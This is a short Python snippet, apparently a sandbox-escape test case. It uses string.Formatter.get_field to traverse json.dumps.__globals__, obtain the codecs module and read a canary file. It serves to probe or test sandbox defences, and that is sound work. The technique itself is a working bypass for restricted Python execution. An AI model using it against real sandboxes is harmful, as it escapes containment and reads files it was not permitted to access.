# what: takes an object with string.Formatter.get_field()
import json
import string

codecs = string.Formatter().get_field("0.__globals__[codecs]", (json.dumps,), {})[0]
codecs.open(CANARY_PATH).read()
